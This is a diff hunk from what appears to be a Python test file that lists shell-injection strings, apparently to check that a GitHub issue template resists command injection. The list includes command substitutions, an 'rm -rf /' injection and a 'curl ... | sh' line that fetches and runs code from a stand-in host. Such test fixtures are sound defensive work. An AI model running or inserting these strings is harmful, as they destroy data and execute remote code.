@@ -14,7 +14,7 @@ from dossier.model import DocumentKind
 
 TEMPLATE = Path(__file__).parent.parent / ".github" / "ISSUE_TEMPLATE" / "bron-voorstellen.yml"
 COMMANDS = [
-    "$(touch /tmp/x)",
+    "$(touch x)",
     "`id`",
     "'; rm -rf / #",
     '" && curl https://elders.example | sh',
